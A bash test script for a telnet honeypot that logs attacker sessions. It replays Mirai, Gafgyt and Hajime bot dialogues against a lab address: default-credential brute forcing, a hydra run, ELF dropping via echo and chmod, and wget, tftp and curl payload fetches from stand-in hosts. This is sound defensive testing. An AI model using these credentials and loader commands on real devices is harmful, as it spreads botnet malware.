#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The telnet server with a bot's bytes and with real clients.

. ./lib.sh
ip addr add 198.18.0.23/32 dev lo

write_conf()
{
	cat >"$CONF" <<-END
		bridge = "sink0"
		rules = { "tcp to telnet" }
		server telnet {
			type = "telnet" address = "198.18.0.23" port = 23
			banner = "router\n" hostname = "router" accept = { "root:1234", "admin:*" }
			${1-}
		}
	END
}

# talk TEXT: what the server says to it, without telnet's own bytes and carriage returns
talk() { printf "$1" | timeout 60 nc 198.18.0.23 23 | tr -d '\r' | sed 's/^\xff\xfb\x01\xff\xfb\x03\xff\xfd\x1f//'; }
talks() { same "$(talk "$1")" "$2"; }
telnet_events() { events "select(.event_type == \"telnet\") | .telnet | $1"; }

greeting=$'\n\nBusyBox v1.19.4 (2014-05-22 13:41:56 CST) built-in shell (ash)\nEnter \'help\' for a list of built-in commands.\n\n'

write_conf
check "starts" start telnet

offers() { same "$(timeout 60 head -c 9 </dev/tcp/198.18.0.23/23 | od -An -tx1)" " ff fb 01 ff fb 03 ff fd 1f"; }
check "offers to echo, asks for the window" offers

# the talk's dialogue: brute force, then the applet that there is not, 19 bytes with a NUL
check "two logins and /bin/busybox MIRAI" talks \
	'root\r\nvizxv\r\nroot\r\n1234\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\0\r\nexit\r\nexit\r\n' \
	"router
login: root
Password: 
Login incorrect
login: root
Password: 
$greeting# enable
sh: enable: not found
# system
sh: system: not found
# shell
sh: shell: not found
# sh
$greeting# /bin/busybox MIRAI
MIRAI: applet not found
# exit
# exit"
logins() { same "$(telnet_events 'select(.kind == "login") | [.username, .password, .success, .attempt]')" \
	$'["root","vizxv",false,1]\n["root","1234",true,2]'; }
check "both logins are events" soon logins
nul_is_kept() { telnet_events 'select(.command == "/bin/busybox MIRAI") | .bytes_hex' |
	grep -qx '"2f62696e2f62757379626f78204d4952414900"'; }
check "the NUL is in its event" wait_for nul_is_kept
closed() { telnet_events 'select(.kind == "closed" and .commands == 7) | [.success, .attempts, .reason, .eventid]' |
	grep -qx '\[true,2,"exit","cowrie.session.closed"\]'; }
check "the end is an event" wait_for closed

check "closes after three" talks 'a\nb\na\nb\na\nb\na\nb\n' "router
login: a
Password: 
Login incorrect
login: a
Password: 
Login incorrect
login: a
Password: 
Login incorrect"

# client COMMAND…: types ahead, and leaves when it has the answer
client()
{
	: >"$WORK/out"
	{ printf 'admin\r\nanything\r\nuname -m\r\n'; wait_for grep -q mips "$WORK/out"; printf 'exit\r\n'; } |
		timeout 30 "$@" 198.18.0.23 >"$WORK/out" 2>&1
	tr -d '\r' <"$WORK/out" | grep -qx mips || { cat -v "$WORK/out"; return 1; }
}
check "BusyBox telnet" client busybox telnet
command -v inetutils-telnet >/dev/null && check "GNU telnet" client inetutils-telnet

alive() { talk 'admin\n\necho alive\nexit\n' | grep -qx alive; }
garbage()
{
	head -c 1000000 /dev/urandom | timeout 20 nc -N 198.18.0.23 23 >/dev/null
	head -c 1000000 /dev/zero | tr '\0' '\377' | timeout 20 nc -N 198.18.0.23 23 >/dev/null
	{ printf 'admin\n\n'; head -c 300000 /dev/urandom; } | timeout 20 nc -N 198.18.0.23 23 >/dev/null
	alive
}
check "survives garbage" garbage

# reads nothing, asks for much: more than sockets and we keep
many=$(for i in $(seq 3000); do echo 'ps; ps; ps; ps; ps'; done)
check "a guest that does not read" start_helper hold "$TESTBIN/fake_hold" 198.18.0.23 23 20 $'admin\n\n'"$many"
deaf_is_there() { [ "$(telnet_events 'select(.command == "ps; ps; ps; ps; ps") | .session' | sort -u | wc -l)" -ge 1 ]; }
check "was heard" wait_for deaf_is_there
check "does not keep others waiting" alive
end_helper hold

check "ends cleanly" stop telnet
check "events are well made" events_are_well_made

check "starts in a hurry" start telnet --idle-timeout 2
# nc ends when the server does
half_a_login() { printf 'ro' | timeout 60 nc 198.18.0.23 23 >/dev/null && wait_for timed_out; }
timed_out() { telnet_events 'select(.kind == "closed" and .reason == "timeout") | .attempts' | grep -qx 0; }
check "half a login times out" half_a_login
check "ends cleanly, hurried" stop telnet

write_conf 'accept-attempt = 3'
check "starts with a policy of attempts" start telnet
third_time() { talk 'x\n1\ny\n2\nz\n3\necho in\nexit\n' | grep -qx in; }
check "the third attempt succeeds" third_time
hydra_finds_it()
{
	# a connection for each: hydra mixes up its second login on one
	printf '%s\n' vizxv xc3511 888888 1234 >"$WORK/passwords"
	(cd "$WORK" && timeout 60 hydra -I -t 4 -l root -P "$WORK/passwords" telnet://198.18.0.23) >"$WORK/out" 2>&1
	grep -q 'login: root *password: 1234' "$WORK/out" && ! grep -q 'password: vizxv' "$WORK/out" ||
		{ cat "$WORK/out"; return 1; }
}
command -v hydra >/dev/null && check "hydra finds the password" hydra_finds_it
check "takes 10,000 connections" start_helper hold "$TESTBIN/fake_hold" 198.18.0.23 23 10000 $'\xff\xfd\x01adm'
check "holds them" wait_for grep -q held "$WORK/hold.out"
check "serves another one" third_time
end_helper hold
check "ends cleanly after them" stop telnet

# the steps of Mirai's, Gafgyt's and Hajime's loaders
write_conf 'machine = arm file "/etc/banner" { content = "camera\n" }'
store=$WORK/store
check "starts as an ARM device" start telnet --store "$store"
says() { talk "admin\\n\\n$1\\nexit\\n" | grep -qx -- "$2"; }
check "a file of lab.conf" says 'cat /etc/banner' camera
check "Gafgyt's question" says "/bin/busybox;echo -e '\\\\147\\\\141\\\\171\\\\146\\\\147\\\\164'" gayfgt
elf() { [ "$(talk 'admin\n\n/bin/busybox cat /bin/echo\nexit\n' | LC_ALL=C grep -aoP '\x7fELF\x01\x01\x01' | wc -l)" = 1 ]; }
check "the ELF header tells little endian" elf
hajime() { talk 'admin\n\ncd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI\ntftp; wget; /bin/busybox ECCHI\ndd bs=52 count=1 if=.s || cat .s\n>.s; cp .s .i\nrm .s; exit\n' |
	tee "$WORK/out" | grep -c 'ECCHI: applet not found' | grep -qx 2 && grep -q '1+0 records in' "$WORK/out"; }
check "Hajime's dialogue" hajime
dropped()
{
	talk 'admin\n\necho -ne "\\x7f\\x45\\x4c\\x46" > /tmp/.d\necho -ne "\\x01\\x02" >> /tmp/.d; chmod 777 /tmp/.d; /tmp/.d arm\nexit\n' >/dev/null
	printf '\x7fELF\x01\x02' >"$WORK/expected"
	sum=$(sha256sum <"$WORK/expected") sum=${sum%% *}
	wait_for cmp "$WORK/expected" "$store/$sum" &&
		wait_for eval '[ -n "$(telnet_events "select(.eventid == \"cowrie.session.file_download\" and .shasum == \"$sum\" and .destfile == \"/tmp/.d\")")" ]'
}
check "what echo wrote is stored" dropped
loader_event() { events 'select(.event_type == "loader") | .loader | [.tool, .url, .dest]' | grep -qxF "$1"; }
loads()
{
	talk 'admin\n\nwget http://192.0.2.1/bins/x.arm -O - > d; tftp -g -l d -r x.arm 192.0.2.1\ncurl -O http://a.test/x.sh\nexit\n' >/dev/null
	wait_for loader_event '["wget","http://192.0.2.1/bins/x.arm","-"]' &&
		wait_for loader_event '["tftp","tftp://192.0.2.1/x.arm","d"]' && wait_for loader_event '["curl","http://a.test/x.sh","x.sh"]'
}
check "what would be fetched is told" loads
# the last word of those before is in the events, which begin anew here
all_are_over() { same "$(telnet_events 'select(.kind == "closed") | .kind' | wc -l)" "$(telnet_events 'select(.kind == "connect") | .kind' | wc -l)"; }
check "all of them are over" soon all_are_over
: >"$EVENTS"
sessions() { "$TESTBIN/fake_sessions" 198.18.0.23 23 10000 $'root\nx\nroot\n1234\nsh\n/bin/busybox MIRAI\nexit\nexit\n'; }
check "10,000 sessions" sessions
counted() { same "$(jq -r 'select(.event_type == "telnet") | .telnet.eventid' "$EVENTS" | sort | uniq -c | tr -s ' ' | tr '\n' ,)" \
	' 40000 cowrie.command.input, 10000 cowrie.login.failed, 10000 cowrie.login.success, 10000 cowrie.session.closed, 10000 cowrie.session.connect,'; }
check "and every event of them" soon counted
check "ends cleanly after the sessions" stop telnet
nothing_lost() { same "$(events 'select(.event_type == "stats") | .stats | [.suppressed, .events_dropped, .conversations >= 10000]')" '[0,0,true]'; }
check "none was suppressed" nothing_lost
finish
